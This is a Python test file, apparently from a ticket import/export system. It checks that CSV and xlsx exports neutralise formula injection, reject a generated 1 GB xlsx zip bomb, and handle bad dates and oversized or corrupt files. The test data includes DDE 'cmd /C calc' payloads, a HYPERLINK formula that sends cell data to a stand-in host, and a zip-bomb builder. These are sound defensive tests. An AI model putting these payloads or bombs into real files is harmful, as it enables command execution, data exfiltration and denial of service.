"""Hostile spreadsheets: formulas in exports, impossible dates, zip bombs, oversized files.

Each attack is tried through the real import/export on a real seat store; what is asserted is
what the office would notice: the formula stays text, the good rows are in, the seat is not held
for minutes, and the message says what to do.
"""

import csv
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.seat import Seat
from app.store.models import Ticket
from app.tickets import spreadsheet
from app.tickets.exporter import export_file
from app.tickets.importer import import_file
from app.tickets.queue import QueueFilter, QueueSort
from app.tickets.spreadsheet import SpreadsheetError, csv_safe, csv_unescape
from tests.core.test_importer import GOOD_ROWS, HEADER, write_csv, write_xlsx

# Texts a citizen (or someone posing as one on the website channel) can type; each is a formula
# or a DDE call to Excel when a cell starts with it.
HOSTILE = {
    "title": "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
    "description": "+cmd|' /C calc'!A0 小区门口积水",
    "address": "-2+3+cmd|' /C calc'!A0",
    "caller_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def stored(seat: Seat) -> list[Ticket]:
    with seat.store.session() as session:
        return list(session.query(Ticket).order_by(Ticket.created_at))


def hostile_row() -> list[str]:
    row = list(GOOD_ROWS[0])
    for field, text in HOSTILE.items():
        row[HEADER.index({"title": "标题", "description": "诉求内容", "address": "地址",
                          "caller_name": "来电人"}[field])] = text
    return row


def test_csv_export_neutralises_formulas_and_imports_back(seat: Seat, tmp_path: Path,
                                                           tmp_path_factory: pytest.TempPathFactory) -> None:
    # A file from another system, the formulas written bare: imported as the text they are.
    report = import_file(seat.store, write_csv(tmp_path / "in.csv", [hostile_row()]), seat.context)
    assert report.errors == [] and report.imported == 1
    assert {field: getattr(stored(seat)[0], field) for field in HOSTILE} == HOSTILE
    with seat.store.connect() as connection:
        export_file(connection, tmp_path / "out.csv", QueueFilter(), QueueSort())
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in HOSTILE.values():
        assert "'" + text in cells, cells  # shown as the text it is

    # An export imports back: the quote comes off, the citizen's text is whole again.
    from app.seat import open_seat
    other = open_seat(tmp_path_factory.mktemp("other") / "seat")
    try:
        back = import_file(other.store, tmp_path / "out.csv", other.context)
        assert back.errors == [] and back.imported == 1
        ticket = stored(other)[0]
        assert {field: getattr(ticket, field) for field in HOSTILE} == HOSTILE
    finally:
        other.close()


def test_xlsx_export_keeps_text_cells(seat: Seat, tmp_path: Path) -> None:
    import_file(seat.store, write_csv(tmp_path / "in.csv", [hostile_row()]), seat.context)
    with seat.store.connect() as connection:
        export_file(connection, tmp_path / "out.xlsx", QueueFilter(), QueueSort())
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    hostile = [cell for cell in cells if cell.value in HOSTILE.values()]
    assert len(hostile) == len(HOSTILE)  # typed text, no quote added
    assert {cell.data_type for cell in hostile} == {"s"}  # never a formula ("f")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''@x", "'plain", "plain", ""])
def test_csv_escape_is_undone_exactly(text: str) -> None:
    assert csv_unescape(csv_safe(text)) == text
    assert csv_safe(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("when", ["9999-12-31", "1900-01-01", "2999-01-01 08:00"])
def test_impossible_acceptance_time_is_a_row_error_and_good_rows_stay(
        seat: Seat, tmp_path: Path, kind: str, when: str) -> None:
    bad: list[object] = list(GOOD_ROWS[0])
    if kind == "xlsx":
        bad[0] = datetime.fromisoformat(when)  # Excel's own date cell, as a clerk would type it
        path = write_xlsx(tmp_path / "in.xlsx", [GOOD_ROWS[1], bad, GOOD_ROWS[2]])
    else:
        bad[0] = when
        path = write_csv(tmp_path / "in.csv", [GOOD_ROWS[1], [str(v) for v in bad], GOOD_ROWS[2]])
    report = import_file(seat.store, path, seat.context)
    assert report.imported == 2
    assert [number for number, _ in report.errors] == [3]
    assert "受理时间" in report.errors[0][1]
    assert [t.title for t in stored(seat)] == ["社保卡补办", "建议增加公交线路"]


def test_same_official_number_twice_in_a_file_keeps_the_other_rows(seat: Seat, tmp_path: Path) -> None:
    header = [*HEADER, "工单编号"]
    rows = [[*GOOD_ROWS[0], "SQ20250301000001"], [*GOOD_ROWS[1], "SQ20250301000001"],
            [*GOOD_ROWS[2], "SQ20250303000002"]]
    report = import_file(seat.store, write_csv(tmp_path / "in.csv", rows, header=header), seat.context)
    assert (report.imported, report.already_present, report.errors) == (2, 1, [])


def write_xlsx_bomb(path: Path, xml_bytes: int) -> Path:
    """A real workbook whose sheet unzips to ``xml_bytes`` of rows (deflate makes them tiny)."""
    template = write_xlsx(path.with_name("template.xlsx"), [])
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED,
                                                                compresslevel=1) as bomb:
        for part in source.infolist():
            if part.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(part, source.read(part))
                continue
            with bomb.open(part.filename, "w", force_zip64=True) as sheet:
                head = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in HEADER)
                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
                            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                            + f"<row>{head}</row>".encode())
                chunk = b"<row><c t=\"inlineStr\"><is><t>\xe5\x92\xa8\xe8\xaf\xa2</t></is></c></row>" * 100_000
                written = 0
                while written < xml_bytes:
                    sheet.write(chunk)
                    written += len(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.mark.timeout(60)  # without the check openpyxl reads the gigabyte for minutes
def test_xlsx_zip_bomb_stops_at_once_with_a_message(seat: Seat, tmp_path: Path) -> None:
    path = write_xlsx_bomb(tmp_path / "bomb.xlsx", 1 << 30)
    assert path.stat().st_size < 8 * 1024 * 1024  # a few MB on disk ...
    with pytest.raises(SpreadsheetError, match=r"解压后有 10[0-9]{2} MB") as refused:
        import_file(seat.store, path, seat.context)
    assert "未导入任何数据" in str(refused.value)
    assert stored(seat) == []


def test_too_big_a_file_is_refused_before_reading(seat: Seat, tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:  # sparse: 101 MB on paper, nothing on disk
        handle.truncate(spreadsheet.MAX_IMPORT_BYTES + 1024 * 1024)
    with pytest.raises(SpreadsheetError, match="超过单个导入文件 100 MB 的上限"):
        import_file(seat.store, path, seat.context)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_row_limit_keeps_the_rows_before_it_and_says_so(seat: Seat, tmp_path: Path, kind: str,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.tickets.importer.MAX_IMPORT_ROWS", 2)
    rows = [GOOD_ROWS[0], [""] * len(HEADER), GOOD_ROWS[1], GOOD_ROWS[2]]  # a blank row counts too
    path = (write_xlsx(tmp_path / "in.xlsx", rows) if kind == "xlsx"
            else write_csv(tmp_path / "in.csv", rows))
    report = import_file(seat.store, path, seat.context)
    assert report.imported == 1
    assert [number for number, _ in report.errors] == [4]
    assert "超过单个文件 2 行的上限" in report.errors[0][1]


def test_an_unreadable_csv_cell_keeps_the_rows_before_it(seat: Seat, tmp_path: Path) -> None:
    huge = list(GOOD_ROWS[1])
    huge[HEADER.index("诉求内容")] = "长" * 200_000  # past csv's field limit: csv.Error
    report = import_file(seat.store, write_csv(tmp_path / "in.csv", [GOOD_ROWS[0], huge, GOOD_ROWS[2]]),
                         seat.context)
    assert report.imported == 1 and [t.title for t in stored(seat)] == ["夜间施工噪音"]
    assert report.errors[0][0] == 3 and "未导入" in report.errors[0][1]


def test_corrupt_xlsx_part_keeps_the_rows_before_it(seat: Seat, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "in.xlsx", [GOOD_ROWS[0], GOOD_ROWS[2]])
    # Cut the sheet's XML after its second row: the third is never there.
    with zipfile.ZipFile(path) as source:
        parts = {p.filename: source.read(p) for p in source.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet[: sheet.index(b"</row>", sheet.index(b"</row>") + 1) + 6] + b"<row><c"
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(broken, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    report = import_file(seat.store, broken, seat.context)
    assert report.imported == 1 and [t.title for t in stored(seat)] == ["夜间施工噪音"]
    assert report.errors and "损坏" in report.errors[-1][1]
